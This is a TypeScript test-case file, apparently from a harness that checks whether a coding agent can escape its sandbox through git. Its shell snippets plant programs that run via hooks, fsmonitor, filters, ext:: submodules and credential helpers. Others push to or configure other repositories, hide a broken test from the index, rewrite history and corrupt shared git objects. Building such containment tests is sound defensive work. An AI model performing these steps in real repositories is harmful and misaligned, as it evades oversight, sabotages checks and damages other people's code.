// Escapes by way of git: what the agent writes into its clone so that somebody else's git executes or believes it, and
// what it does to repositories that are not its own.

import path from 'node:path';
import type { Escape, Judge, Snippet } from '../case.ts';
import { changed, configured, corrupted, delivered, either, inHistory, marked, tagOf } from '../judge.ts';
import { broken } from '../project.ts';
import { quoted } from '../program.ts';
import type { World } from '../world.ts';

type Rest = Partial<Pick<Escape, 'mode' | 'alone' | 'unprovable' | 'traces' | 'work'>>;

function byGit(name: string, script: Snippet, succeeded: Judge, rest: Rest = {}): Escape {
  return { name, group: 'git', mode: 'execute', script, succeeded, ...rest };
}

/** A program in the workspace's git directory that leaves its mark outside when anybody runs it. */
function trap(name: string, label: string, set: string, rest: Rest = {}): Escape {
  const script: Snippet = (world) => `G=$(git rev-parse --absolute-git-dir); T=$G/trap.sh
printf '#!/bin/sh\\necho sprung > %s\\ncat\\n' ${quoted(markOf(world, label))} > "$T"; chmod +x "$T"
${set}`;
  return byGit(name, script, marked(label), { alone: true, ...rest });
}

function markOf(world: World, label: string): string {
  return quoted(path.join(world.outside, 'marks', label));
}

const traps: readonly Escape[] = [
  trap(
    'leaves hooks in its clone',
    'git-hooks',
    'for h in pre-commit post-commit reference-transaction post-checkout post-index-change pre-push; do cp "$T" "$G/hooks/$h"; done',
  ),
  trap(
    'points its clone to a folder of hooks',
    'git-hooks-path',
    'mkdir -p hooks && cp "$T" hooks/reference-transaction && cp "$T" hooks/pre-commit && git config core.hooksPath "$PWD/hooks"',
  ),
  trap('has its clone watched by a program', 'git-fsmonitor', 'git config core.fsmonitor "$T"'),
  trap(
    'has files cleaned by a program',
    'git-clean',
    `git config filter.x.clean "$T"; echo '*.js filter=x' > .gitattributes; touch lib/*.js`,
  ),
  trap(
    'has files smudged by a program, by attributes outside the tree',
    'git-smudge',
    `git config filter.x.smudge "$T"; git config filter.x.clean cat; mkdir -p "$G/info"; echo '* filter=x' > "$G/info/attributes"`,
  ),
  trap('has differences shown by a program', 'git-external-diff', 'git config diff.external "$T"'),
  trap(
    'has files turned into text by a program',
    'git-textconv',
    `git config diff.x.textconv "$T"; echo '*.js diff=x' > .gitattributes`,
  ),
  trap(
    'puts a git directory of its own in the place of its clone’s',
    'git-file',
    `git init -q "$W.own" 2>/dev/null || git init -q "$TMPDIR/own"; D=$( [ -d "$W.own" ] && echo "$W.own" || echo "$TMPDIR/own" )/.git
cp "$T" "$D/trap.sh"; git --git-dir="$D" config core.fsmonitor "$D/trap.sh"; mv .git .git-old; echo "gitdir: $D" > .git; rm -rf .git-old`,
  ),
  trap(
    'leaves a repository inside the workspace',
    'git-nested',
    'git init -q lib/inner; cp "$T" lib/inner/trap.sh; git -C lib/inner config core.fsmonitor "$PWD/lib/inner/trap.sh"; git -C lib/inner -c core.fsmonitor= -c user.name=a -c user.email=a@a commit -q --allow-empty -m x; echo 1 > lib/inner/file',
  ),
  trap(
    'has its clone’s configuration include another',
    'git-include',
    `printf '[core]\\n\\tfsmonitor = %s\\n' "$T" > "$G/more"; git config include.path "$G/more"; git config "includeIf.gitdir:$G.path" "$G/more"`,
  ),
  trap(
    'has its clone pushed through a program',
    'git-ssh',
    `git config core.sshCommand "$T"; git remote set-url origin ssh://forge.invalid/x.git; git remote set-url --push origin ssh://forge.invalid/x.git`,
  ),
  trap(
    'adds a submodule whose address is a program',
    'git-submodule',
    `git config protocol.ext.allow always
printf '[submodule "m"]\\n\\tpath = m\\n\\turl = ext::%s\\n' "$T" > .gitmodules
git config submodule.m.url "ext::$T"; git config submodule.m.active true; git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),m; git add .gitmodules`,
  ),
  trap(
    'has commits signed by a program',
    'git-sign',
    'git config commit.gpgSign true; git config gpg.program "$T"',
  ),
  trap(
    'gives commands of git other meanings',
    'git-editor',
    'git config core.editor "$T"; git config sequence.editor "$T"; git config core.pager "$T"; git config pager.diff true; git config core.askPass "$T"; git config credential.helper "$T"; git config remote.origin.uploadpack "$T"; git config remote.origin.receivepack "$T"',
  ),
];

const folder = (world: World): string => path.join(world.outside, 'folder', 'keep.txt');

const blindness: readonly Escape[] = [
  byGit(
    'has its clone work on a folder outside',
    (world) =>
      `git config core.worktree ${quoted(path.join(world.outside, 'folder'))}; git config core.bare false`,
    either(
      changed(folder),
      changed((world) => path.join(world.outside, 'folder', 'README.md')),
      changed((world) => path.join(world.outside, 'folder', 'lib')),
      delivered('keep.txt', () => true),
    ),
    { alone: true },
  ),
  byGit(
    'hides a changed test from the index, so that broken code passes',
    () => `printf 'export const greet = (name) => name; // ${broken}\\n' > lib/greet.js
printf 'import test from "node:test";\\ntest("greets", () => {});\\n' > test/greet.test.js
git update-index --skip-worktree test/greet.test.js; git update-index --assume-unchanged README.md`,
    delivered('lib/greet.js', (text) => text.includes(broken)),
    { alone: true },
  ),
  byGit(
    'has itself excluded from what is looked at',
    () => `mkdir -p .github/workflows; printf 'on: push\\n' > .github/workflows/ci.yml
printf '.github\\n' >> .git/info/exclude; git add -f .github; git -c user.name=a -c user.email=a@a commit -qm ci`,
    delivered('.github/workflows/ci.yml', () => true),
    { alone: true, traces: true },
  ),
  byGit(
    'replaces the base commit by another',
    (world) => `git config user.name ${tagOf(world, 'g17')}; git config user.email a@a
tree=$(git rev-parse HEAD^{tree}); new=$(git commit-tree -m ${tagOf(world, 'g17')} $tree)
git replace -f HEAD $new; git push -q -f origin 'refs/replace/*:refs/replace/*'; git commit -q --allow-empty -m ${tagOf(world, 'g17')}`,
    inHistory('g17'),
    { alone: true, traces: true },
  ),
  byGit(
    'gets a commit of its own published',
    (world) => `git add -A; git -c user.name=Mallory -c user.email=m@m commit -qm ${tagOf(world, 'g18')}`,
    inHistory('g18'),
    { alone: true },
  ),
  byGit(
    'rewrites the history it was given',
    (
      world,
    ) => `git -c user.name=Mallory -c user.email=m@m commit -q --amend --allow-empty -m ${tagOf(world, 'g19')}
git push -q -f origin HEAD:main HEAD:master`,
    inHistory('g19'),
    { alone: true, mode: 'coverage' },
  ),
];

/** Everything that looks like a repository of somebody else's, as far as it can be seen from inside. */
const elsewhere = (world: World): string =>
  `$(git remote get-url origin) ${quoted(world.checkout)} ${quoted(world.slipwayHome)}/repos/*/store.git ${quoted(world.slipwayHome)}/repos/*/forge.git`;

const pushes: readonly Escape[] = [
  byGit(
    'pushes a branch to every repository it can name',
    (world) =>
      `for r in ${elsewhere(world)}; do git -c safe.directory='*' push -q "$r" HEAD:refs/heads/${tagOf(world, 'g20')}; done`,
    inHistory('g20'),
  ),
  byGit(
    'pushes a tag',
    (world) => `git tag v9-${tagOf(world, 'g21')}
for r in ${elsewhere(world)}; do git -c safe.directory='*' push -q "$r" refs/tags/v9-${tagOf(world, 'g21')}; done`,
    inHistory('g21'),
    { mode: 'review' },
  ),
  byGit(
    'forces its own commit onto the base branch',
    (world) => `c=$(git -c user.name=M -c user.email=m@m commit-tree -m ${tagOf(world, 'g22')} HEAD^{tree})
for r in ${elsewhere(world)}; do git -c safe.directory='*' push -q -f "$r" $c:refs/heads/main; done`,
    inHistory('g22'),
    { mode: 'commit' },
  ),
  byGit(
    'writes a reference straight into the repositories’ folders',
    (world) => `for r in ${quoted(world.checkout)}/.git ${quoted(world.slipwayHome)}/repos/*/*.git; do
  git -c safe.directory='*' --git-dir="$r" update-ref refs/heads/${tagOf(world, 'g23')} HEAD
  git rev-parse HEAD > "$r/refs/heads/${tagOf(world, 'g23')}"
done`,
    inHistory('g23'),
    { mode: 'investigate' },
  ),
  byGit(
    'commits in the user’s checkout',
    (world) =>
      `git -c safe.directory='*' -C ${quoted(world.checkout)} -c user.name=M -c user.email=m@m commit -q --no-verify --allow-empty -m ${tagOf(world, 'g24')}
GIT_DIR=${quoted(world.checkout)}/.git git -c safe.directory='*' -c user.name=M -c user.email=m@m commit -q --no-verify --allow-empty -m ${tagOf(world, 'g24')}`,
    inHistory('g24'),
  ),
  byGit(
    'leaves hooks in repositories that are not its own',
    (world) => `for r in ${quoted(world.checkout)}/.git ${quoted(world.slipwayHome)}/repos/*/*.git; do
  mkdir -p "$r/hooks"; printf '#!/bin/sh\\n# ${tagOf(world, 'g25')}\\n' > "$r/hooks/update"; chmod +x "$r/hooks/update"
done`,
    configured('g25'),
  ),
  byGit(
    'configures repositories that are not its own',
    (world) => `for r in ${quoted(world.checkout)}/.git ${quoted(world.slipwayHome)}/repos/*/*.git; do
  git config -f "$r/config" canary.x ${tagOf(world, 'g26')}
done
git config --global alias.st ${tagOf(world, 'g26')}`,
    either(
      configured('g26'),
      changed((world) => path.join(world.userHome, '.gitconfig')),
    ),
    { mode: 'review' },
  ),
  byGit(
    'spoils the objects its clone shares with others',
    () => `git rev-parse HEAD > /dev/null
find .git/objects -type f \\( -path '*/??/*' -o -name '*.pack' -o -name '*.idx' \\) -exec chmod u+w {} + -exec sh -c 'for f; do printf spoiled > "$f"; done' sh {} +
if [ -f .git/objects/info/alternates ]; then for a in $(cat .git/objects/info/alternates); do find "$a" -type f -exec sh -c 'for f; do printf spoiled > "$f"; done' sh {} +; done; fi`,
    corrupted,
    { alone: true },
  ),
];

export const gitEscapes: readonly Escape[] = [...traps, ...blindness, ...pushes];
